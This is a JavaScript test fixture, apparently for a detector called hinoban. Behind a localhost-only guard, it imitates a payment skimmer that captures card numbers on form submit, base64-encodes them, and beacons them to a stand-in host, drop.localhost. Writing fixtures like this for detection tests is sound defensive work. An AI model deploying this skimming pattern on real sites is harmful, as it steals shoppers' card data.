/* Harmless imitation, for hinoban's tests: URL-safe base64 of JSON in a path. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
document.addEventListener('submit', function (e) { var n = e.target.querySelector('input[autocomplete=cc-number]'); if (n) { 
		var t = btoa(JSON.stringify({n: n.value})).replace(/\+/g, '-').replace(/\//g, '_').replace(/=/g, '');
		new Image().src = 'http://drop.localhost:' + location.port + '/i/' + t + '.gif';
	 } }, true);
